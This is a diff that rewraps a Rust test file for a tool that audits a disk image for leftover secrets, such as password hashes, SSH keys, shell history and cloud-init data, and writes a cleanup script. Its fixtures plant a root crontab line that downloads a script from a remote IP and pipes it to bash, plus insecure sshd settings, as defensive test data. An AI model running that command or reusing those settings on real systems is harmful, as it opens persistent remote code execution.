@@ -72,7 +72,10 @@ fn state(root: &Path) -> BTreeMap<PathBuf, (u32, u32, Vec<u8>)> {
             } else {
                 fs::read(&path).unwrap()
             };
-            all.insert(path.strip_prefix(root).unwrap().to_owned(), (metadata.mode(), metadata.uid(), content));
+            all.insert(
+                path.strip_prefix(root).unwrap().to_owned(),
+                (metadata.mode(), metadata.uid(), content),
+            );
         }
     }
     all
@@ -89,7 +92,10 @@ fn put(root: &Path, path: &[u8], content: &str) -> PathBuf {
 fn key() -> String {
     let dir = tempfile::tempdir().unwrap();
     let file = dir.path().join("key");
-    let made = Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-C", "test", "-f"]).arg(&file).output();
+    let made = Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", "test", "-f"])
+        .arg(&file)
+        .output();
     match made {
         Ok(made) if made.status.success() => fs::read_to_string(&file).unwrap(),
         _ => panic!("ssh-keygen is needed (openssh-client)"),
@@ -116,25 +122,62 @@ fn dirty(root: &Path) -> Vec<String> {
     let password = format!("Hq7-{}", token(10));
     let hash = format!("$6${}${}", token(8), token(86));
     put(root, b"usr/lib/os-release", "ID=debian\nPRETTY_NAME=\"Debian 12\"\n");
-    symlink("../usr/lib/os-release", { fs::create_dir_all(root.join("etc")).unwrap(); root.join("etc/os-release") }).unwrap();
+    symlink("../usr/lib/os-release", {
+        fs::create_dir_all(root.join("etc")).unwrap();
+        root.join("etc/os-release")
+    })
+    .unwrap();
     put(root, b"etc/fstab", "UUID=0a1b / ext4 defaults 0 1\n");
-    put(root, b"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nweb:x:1000:1000::/home/web:/bin/bash\nopen:x:1001:1001::/home/open:/bin/sh\n");
-    put(root, b"etc/shadow", &format!("root:{hash}:19000:0:99999:7:::\ndaemon:*:19000::::::\nweb:!:19000::::::\nopen::19000:0:99999:7:::\n"));
+    put(
+        root,
+        b"etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\nweb:x:1000:1000::/home/web:/bin/bash\nopen:x:1001:1001::/home/open:/bin/sh\n",
+    );
+    put(
+        root,
+        b"etc/shadow",
+        &format!(
+            "root:{hash}:19000:0:99999:7:::\ndaemon:*:19000::::::\nweb:!:19000::::::\nopen::19000:0:99999:7:::\n"
+        ),
+    );
     put(root, b"etc/machine-id", "0123456789abcdef0123456789abcdef\n");
     put(root, b"usr/bin/cloud-init", "#!/usr/bin/python3\n");
     put(root, b"usr/sbin/sshd", "not really\n");
-    put(root, b"etc/ssh/sshd_config", "Port 22\nPermitEmptyPasswords yes\nPermitRootLogin yes # for now\nPermitRootLogin   yes\n");
+    put(
+        root,
+        b"etc/ssh/sshd_config",
+        "Port 22\nPermitEmptyPasswords yes\nPermitRootLogin yes # for now\nPermitRootLogin   yes\n",
+    );
     put(root, b"root/.bash_history", &format!("ls\nmysql -u root -p{password} shop\n"));
     put(root, b"root/.my.cnf", &format!("[client]\nuser = root\npassword = {password}\n"));
-    put(root, b"home/web/.ssh/authorized_keys", "# ours\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGr5m1Cq3wU0rZ0w5Jt9cJx0e3v1n2o3p4q5r6s7t8u9 ops@corp\n");
-    put(root, b"opt/app/config.json", &format!("{{\n  \"user\": \"app\",\n  \"password\": \"{password}\",\n  \"port\": 5432\n}}\n"));
+    put(
+        root,
+        b"home/web/.ssh/authorized_keys",
+        "# ours\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGr5m1Cq3wU0rZ0w5Jt9cJx0e3v1n2o3p4q5r6s7t8u9 ops@corp\n",
+    );
+    put(
+        root,
+        b"opt/app/config.json",
+        &format!("{{\n  \"user\": \"app\",\n  \"password\": \"{password}\",\n  \"port\": 5432\n}}\n"),
+    );
     let private = key();
     let secret = private.lines().nth(2).unwrap().to_owned();
     put(root, b"etc/ssh/ssh_host_ed25519_key", &private);
-    put(root, b"home/web/deploy.yml", &format!("key: |\n{}port: 1\n", private.lines().map(|line| format!("  {line}\n")).collect::<String>()));
+    put(
+        root,
+        b"home/web/deploy.yml",
+        &format!(
+            "key: |\n{}port: 1\n",
+            private.lines().map(|line| format!("  {line}\n")).collect::<String>()
+        ),
+    );
     put(root, &[EVIL, b"/id_ed25519"].concat(), &private);
     put(root, &[EVIL, b"/kept.txt"].concat(), "kept\n");
-    put(root, b"var/lib/cloud/instances/i-0123456789abcdef0/user-data.txt", &format!("#cloud-config\npassword: {password}\n"));
+    put(
+        root,
+        b"var/lib/cloud/instances/i-0123456789abcdef0/user-data.txt",
+        &format!("#cloud-config\npassword: {password}\n"),
+    );
     put(root, b"var/lib/cloud/handlers/kept", "kept\n");
     put(root, b"var/log/auth.log", "Nov 27 00:00:00 host sshd[1]: Accepted publickey for web\n");
     put(root, b"var/log/auth.log.1", "Nov 26 00:00:00 host sshd[1]: Accepted publickey for web\n");
@@ -154,9 +197,22 @@ fn what_the_script_does_by_itself_is_gone_and_nothing_else_is_touched() {
     let secrets = dirty(root);
     let before = state(root);
     let found = audit(root);
-    for id in ["password-hash", "empty-password", "ssh-host-key", "ssh-private-key", "machine-id", "shell-history",
-        "secret-in-history", "credential-file-mysql", "authorized-key", "cloud-init-user-data", "log-logins",
-        "package-cache", "ssh-empty-passwords", "setuid-program"] {
+    for id in [
+        "password-hash",
+        "empty-password",
+        "ssh-host-key",
+        "ssh-private-key",
+        "machine-id",
+        "shell-history",
+        "secret-in-history",
+        "credential-file-mysql",
+        "authorized-key",
+        "cloud-init-user-data",
+        "log-logins",
+        "package-cache",
+        "ssh-empty-passwords",
+        "setuid-program",
+    ] {
         assert!(found.iter().any(|(found, _)| found == id), "{id} is not found: {found:#?}");
     }
     let (_dir, script, text) = write_script(root);
@@ -194,11 +250,27 @@ fn what_the_script_does_by_itself_is_gone_and_nothing_else_is_touched() {
     assert_eq!(text("etc/machine-id"), "");
     assert_eq!(fs::metadata(root.join("usr/local/bin/shell")).unwrap().mode() & 0o7777, 0o755);
 
-    let named = ["etc/shadow", "etc/machine-id", "etc/ssh/sshd_config", "home/web/.ssh/authorized_keys",
-        "opt/app/config.json", "home/web/deploy.yml", "var/log/auth.log", "usr/local/bin/shell"].map(PathBuf::from);
+    let named = [
+        "etc/shadow",
+        "etc/machine-id",
+        "etc/ssh/sshd_config",
+        "home/web/.ssh/authorized_keys",
+        "opt/app/config.json",
+        "home/web/deploy.yml",
+        "var/log/auth.log",
+        "usr/local/bin/shell",
+    ]
+    .map(PathBuf::from);
     for (path, was) in &before {
-        let gone = ["etc/ssh/ssh_host_ed25519_key", "root/.bash_history", "root/.my.cnf", "var/log/auth.log.1",
-            "var/cache/apt/archives/nano_7.2-1_amd64.deb"].iter().any(|gone| path.as_os_str() == *gone)
+        let gone = [
+            "etc/ssh/ssh_host_ed25519_key",
+            "root/.bash_history",
+            "root/.my.cnf",
+            "var/log/auth.log.1",
+            "var/cache/apt/archives/nano_7.2-1_amd64.deb",
+        ]
+        .iter()
+        .any(|gone| path.as_os_str() == *gone)
             || path.starts_with("var/lib/cloud/instances/i-0123456789abcdef0")
             || path.ends_with("id_ed25519");
         assert_eq!(after.contains_key(path), !gone, "{}", path.display());
@@ -210,7 +282,7 @@ fn what_the_script_does_by_itself_is_gone_and_nothing_else_is_touched() {
 
     let again = run(&script, root, &[]);
     assert!(again.status.success(), "{}", told(&again));
-    assert!(told(&again).contains("\n0 done, ") , "{}", told(&again));
+    assert!(told(&again).contains("\n0 done, "), "{}", told(&again));
     assert_eq!(state(root), after, "a second run changes nothing");
 }
 
@@ -233,7 +305,11 @@ fn a_file_that_is_another_one_now_is_left_alone() {
     let done = run(&script, root, &[]);
     assert_eq!(done.status.code(), Some(1), "{}", told(&done));
     let told = told(&done);
-    for refusal in ["/opt/app/config.json: has changed", "/root/.my.cnf: a directory on the way", "/var/log/auth.log: is no regular"] {
+    for refusal in [
+        "/opt/app/config.json: has changed",
+        "/root/.my.cnf: a directory on the way",
+        "/var/log/auth.log: is no regular",
+    ] {
         assert!(told.contains(refusal), "{refusal}: {told}");
     }
     assert_eq!(fs::read_to_string(root.join("opt/app/config.json")).unwrap(), "{}\n");
@@ -260,7 +336,11 @@ fn what_a_person_must_decide_is_commented_out() {
     let root = tempfile::tempdir().unwrap();
     let root = root.path();
     put(root, b"etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
-    put(root, b"var/spool/cron/crontabs/root", "*/10 * * * * curl -fsSL http://198.51.100.115/init.sh | bash\n");
+    put(
+        root,
+        b"var/spool/cron/crontabs/root",
+        "*/10 * * * * curl -fsSL http://198.51.100.115/init.sh | bash\n",
+    );
     let (_dir, script, text) = write_script(root);
     assert!(text.contains("\n#! overwrite /var/spool/cron/crontabs/root 61 comment:0:60\n"), "{text}");
     let before = state(root);
